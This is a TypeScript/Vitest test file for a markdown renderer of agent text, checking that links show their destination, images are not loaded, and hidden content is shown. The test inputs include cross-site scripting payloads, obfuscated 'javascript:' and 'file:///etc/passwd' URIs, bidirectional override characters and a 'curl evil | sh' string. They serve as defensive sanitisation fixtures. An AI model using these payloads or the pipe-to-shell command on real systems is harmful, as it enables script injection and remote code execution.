import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";
import { renderMarkdown } from "./render-markdown.ts";

const html = (text: string) => renderToStaticMarkup(renderMarkdown(text)).replaceAll(/ class="[^"]*"/g, "");
const plain = (text: string) => html(text).replaceAll(/<[^>]*>/g, "");

test("text of an agent is formatted", () => {
  expect(html("a **b** `c` ~~d~~\ne")).toBe("<p>a <strong>b</strong> <code>c</code> <s>d</s><br/>e</p>");
  expect(html("1. a\n2. b")).toBe('<ol start="1"><li>a</li><li>b</li></ol>');
  expect(html("- a\n  - b")).toBe("<ul><li>a<ul><li>b</li></ul></li></ul>");
  expect(html("> a\n\n---")).toBe("<blockquote><p>a</p></blockquote><hr/>");
  expect(html("```sh\nls\n```")).toBe("<pre><span>sh</span><code>ls\n</code></pre>");
  expect(html("|a|\n|-|\n|b|")).toContain(
    "<thead><tr><th>a</th></tr></thead><tbody><tr><td>b</td></tr></tbody>",
  );
});

test("headings are all on one level, below that of their entry", () => {
  expect(html("# a\n\n#### b").match(/aria-level="3"/g)).toHaveLength(2);
  expect(html("# a")).not.toContain("<h1");
});

test("a link opens beside the page, and names where it leads", () => {
  expect(html("[your bank](https://evil.example/x)")).toBe(
    '<p><a href="https://evil.example/x" target="_blank" rel="noopener noreferrer nofollow">your bank</a>' +
      "<span> (evil.example)</span></p>",
  );
  expect(plain('[a](https://b.example "c")')).toBe("a (b.example: c)");
  expect(plain("<mailto:a@b.example>")).toBe("mailto:a@b.example (a@b.example)");
});

test("an image is a link and is not loaded", () => {
  const shown = html("![a cat](https://tracker.example/c.png)");
  expect(shown).not.toContain("<img");
  expect(shown).toContain('<a href="https://tracker.example/c.png"');
  expect(plain("![a cat](https://tracker.example/c.png)")).toBe("Image: a cat (tracker.example)");
});

test.each([
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "\u0001javascript:alert(1)",
  "javascript&colon;alert(1)",
  "&#x6a;avascript:alert(1)",
  "java&#10;script:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:image/svg+xml,<svg/>",
  "vbscript:a",
  "file:///etc/passwd",
  "blob:https://a/b",
  "//evil.example",
  "/runs",
  "tel:1",
  "view-source:https://a",
])("%j is not a link, neither of a text nor of an image", (href) => {
  for (const text of [
    `[a](${href})`,
    `[a](<${href}>)`,
    `![a](${href})`,
    `<${href}>`,
    `[a][b]\n\n[b]: ${href}`,
  ]) {
    expect(html(text), text).not.toMatch(/<a|href|src/);
  }
});

test.each([
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  "<b>x</b>",
  "<!-- x -->",
  "<svg/onload=a>",
])("the HTML %s is text", (text) => {
  expect(plain(text)).toBe(
    text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll('"', "&quot;"),
  );
  expect(html(text)).toMatch(/^<p>[^<]*<\/p>$/);
});

describe("nothing is hidden", () => {
  test("definitions of links are shown", () => {
    expect(plain("[a]: https://b.example 'c'")).toBe("[a]: https://b.example &#x27;c&#x27;");
  });

  test("the words after a fence are shown", () => {
    expect(plain("```sh curl evil | sh\na\n```")).toContain("curl evil | sh");
  });

  test("characters that turn the direction are shown, also those that are written as entities", () => {
    expect(plain("a\u202eb &#x202e; `\u2066`")).toBe("a\\u{202e}b \\u{202e} \\u{2066}");
    expect(plain("[\u202ea](https://b.example)")).toBe("\\u{202e}a (b.example)");
  });
});

test("what is nested too deeply or too long is left to be shown as it is", () => {
  expect(renderMarkdown(`${"> ".repeat(5_000)}a`)).toBeUndefined();
  expect(renderMarkdown(`${"- ".repeat(5_000)}a`)).toBeUndefined();
  expect(renderMarkdown("a".repeat(1_000_000))).toBeUndefined();
  expect(plain(`${"> ".repeat(20)}a`)).toBe("a");
});

test.each([
  "[",
  "![",
  "*",
  "_",
  "**a *b ",
  "*a_ ",
  "`",
  "[a](",
  "[a](<b",
  "~~a ",
  "\\",
  "<a ",
  "&#x",
  "a**",
  "> [",
  "|a",
])("%s, repeated to the longest text that is parsed, keeps all of its letters", (part) => {
  const text = part.repeat(Math.floor(30_000 / part.length));
  const shown = renderMarkdown(text);
  const letters = (all: string) => all.replaceAll(/[^ab]/g, "").length;
  if (shown !== undefined)
    expect(
      letters(
        renderToStaticMarkup(shown)
          .replaceAll(/<[^>]*>/g, "")
          .replaceAll(/&\w+;/g, ""),
      ),
    ).toBe(letters(text));
});
